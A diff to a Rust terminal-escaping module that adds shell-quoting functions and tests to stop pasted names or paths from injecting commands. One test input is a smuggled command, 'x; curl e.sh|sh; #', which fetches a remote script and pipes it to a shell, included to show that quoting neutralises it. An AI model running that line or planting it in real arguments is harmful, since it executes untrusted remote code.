@@ -1,6 +1,6 @@
 //! Text from outside (skills, archives, indexes, records) made safe to show on a terminal.
 //!
-//! Owns escaping only; what to print and where belongs to the command line.
+//! Owns escaping and shell quoting only; what to print and where belongs to the command line.
 
 use std::borrow::Cow;
 use std::fmt::Write;
@@ -27,6 +27,26 @@ pub fn escape(s: &str) -> Cow<'_, str> {
     Cow::Owned(out)
 }
 
+/// `word` as one word of a POSIX shell command: unchanged when the shell would read it as
+/// it is, else single-quoted, so that a name or path holding `;`, `|`, `$`, spaces or quotes
+/// cannot become a second command when the user pastes what skillpack printed. A word
+/// holding a NUL (which no command argument can) is shown escaped, in quotes.
+pub fn shell_quote(word: &str) -> Cow<'_, str> {
+    match shlex::try_quote(word) {
+        Ok(quoted) => quoted,
+        Err(_) => Cow::Owned(format!("'{}'", escape(word).replace('\'', "'\\''"))),
+    }
+}
+
+/// A command line made of `words`, each quoted as [`shell_quote`] does.
+pub fn shell_command<'a>(words: impl IntoIterator<Item = &'a str>) -> String {
+    words
+        .into_iter()
+        .map(shell_quote)
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
 fn needs_escape(c: char) -> bool {
     c.is_control()
         || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
@@ -34,7 +54,7 @@ fn needs_escape(c: char) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::escape;
+    use super::{escape, shell_command, shell_quote};
 
     #[test]
     fn escapes_terminal_control() {
@@ -42,5 +62,18 @@ mod tests {
         assert_eq!(escape("a\u{1b}[2Jb"), "a\\u{1b}[2Jb");
         assert_eq!(escape("x\ny\u{7f}\u{9b}"), "x\\ny\\u{7f}\\u{9b}");
         assert_eq!(escape("\u{202e}txt"), "\\u{202e}txt");
+    }
+
+    #[test]
+    fn quotes_shell_words() {
+        assert_eq!(shell_quote("crm-management"), "crm-management");
+        assert_eq!(shell_quote("x; curl e.sh|sh; #"), "'x; curl e.sh|sh; #'");
+        assert_eq!(shell_quote("it's"), "\"it's\"");
+        assert_eq!(shell_quote(""), "''");
+        assert_eq!(shell_quote("a\0b"), "'a\\u{0}b'");
+        assert_eq!(
+            shell_command(["skillpack", "install", "a b", "--dir", "/tmp/x y"]),
+            "skillpack install 'a b' --dir '/tmp/x y'"
+        );
     }
 }
